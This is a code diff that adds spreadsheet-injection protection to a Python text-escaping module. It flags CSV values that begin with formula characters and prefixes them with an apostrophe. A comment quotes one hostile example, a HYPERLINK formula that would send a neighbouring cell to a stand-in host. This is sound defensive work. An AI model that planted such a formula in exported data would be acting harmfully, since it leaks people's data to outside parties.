@@ -232,3 +232,20 @@ def escape_for_terminal(text: str) -> str:
     since such characters can only stand inside its strings, where `\\uXXXX` means the
     same character."""
     return _TERMINAL_UNSAFE.sub(lambda m: f"\\u{ord(m.group()):04x}", text)
+
+
+# --- spreadsheets ------------------------------------------------------------------------
+
+# A cell starting with one of these is a formula to Excel and LibreOffice: a name like
+# =HYPERLINK("http://x/?q="&C2) would send the neighbouring cell away when the list is
+# opened. Text from the register is written so that it stays text.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def looks_like_formula(value: object) -> bool:
+    return isinstance(value, str) and value.startswith(FORMULA_STARTS)
+
+
+def spreadsheet_text(value: object) -> object:
+    """A CSV cell as text: a leading apostrophe keeps a formula-like value a plain string."""
+    return "'" + value if looks_like_formula(value) else value  # type: ignore[operator]
